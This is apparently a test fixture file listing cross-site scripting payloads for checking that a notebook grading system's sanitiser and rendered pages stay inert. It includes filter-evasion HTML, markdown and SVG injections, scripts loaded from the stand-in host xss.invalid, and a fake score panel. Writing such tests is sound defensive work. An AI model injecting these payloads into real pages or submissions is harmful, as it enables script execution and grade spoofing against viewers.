"""Script-injection payloads for every place a student controls, after OWASP's XSS filter evasion cheat sheet.

Each payload, if it ran, would call ``alert`` (a dialog the browser tests catch) or fetch from
``xss.invalid`` (a request they catch). The tests put them in markdown answers, raw cells, cell attachments,
every output type (stored in the hand-in and produced while grading), cell and notebook metadata and file
names, and require that none of them runs in any page (test_browser_inert.py) and that the sanitiser keeps
no active content (test_trust.py).
"""

HTML = [
    "<script>alert('script')</script>",
    "<SCRIPT SRC=http://xss.invalid/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('img-js');\">",
    "<IMG SRC=JaVaScRiPt:alert('img-case')>",
    "<IMG SRC=`javascript:alert('img-grave')`>",
    "<a onmouseover=\"alert('mouseover')\">hover me</a>",
    "<IMG \"\"\"><SCRIPT>alert('malformed')</SCRIPT>\">",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=/ onerror=\"alert('onerror')\"></img>",
    "<img src=x onerror=\"&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041\">",
    "<IMG SRC=\"jav\tascript:alert('tab');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('encoded-tab');\">",
    "<IMG SRC=\" &#14;  javascript:alert('leading');\">",
    "<SCRIPT/XSS SRC=\"http://xss.invalid/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert('body')>",
    "<<SCRIPT>alert('double');//\\<</SCRIPT>",
    "<IMG SRC=\"`<javascript:alert>`('half-open')\"",
    "<iframe src=http://xss.invalid/scriptlet.html <",
    "</TITLE><SCRIPT>alert('title');</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('input');\">",
    "<BODY BACKGROUND=\"javascript:alert('background')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('style')\");}</STYLE><UL><LI>x</UL>",
    "<svg/onload=alert('svg-onload')>",
    "<svg><script>alert('svg-script')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('svg-link')\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
    "<math href=\"javascript:alert('math-href')\">click</math>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert('annotation')></annotation-xml></math>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('link');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('meta');\">",
    "<IFRAME SRC=\"javascript:alert('iframe');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('frame');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('table')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('div-style'))\">x</DIV>",
    "<BASE HREF=\"javascript:alert('base');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.invalid/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoJ2VtYmVkJyk+\" type=\"image/svg+xml\">",
    "<details open ontoggle=alert('ontoggle')>",
    "<input autofocus onfocus=alert('autofocus')>",
    "<video><source onerror=\"alert('video')\"></video>",
    "<audio src=x onerror=alert('audio')>",
    "<form><button formaction=javascript:alert('formaction')>X</button></form>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+\">data link</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
    "<!--<img src=\"--><img src=x onerror=alert('comment')//\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('entities')\">x</a>",
    "<object data=\"javascript:alert('object')\"></object>",
    "<marquee onstart=alert('marquee')>x</marquee>",
    "<img src=\"http://xss.invalid/beacon.png\">",
    "<style>@import 'http://xss.invalid/x.css';</style>",
    "<div id=\"notebook-container\" class=\"panel-heading\">Score: 5.0 / 5.0</div>",
]

#: Markdown that a renderer could turn into active HTML.
MARKDOWN = [
    "[link](javascript:alert('md-link'))",
    "![image](javascript:alert('md-image'))",
    "[spaced](  javascript:alert('md-spaced'))",
    "<javascript:alert('md-autolink')>",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgnbWQtZGF0YScpPC9zY3JpcHQ+)",
    "![quote](x\" onerror=\"alert('md-quote'))",
    "$\\href{javascript:alert('tex-href')}{x}$",
    "$<img src=x onerror=alert('tex-html')>$",
    "![remote](http://xss.invalid/md.png)",
]

#: An SVG image that runs a script when rendered inline (an output, or an attachment).
SVG = ("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert('svg-output')\">"
       "<script>alert('svg-output-script')</script></svg>")
JAVASCRIPT = "alert('javascript-output')"
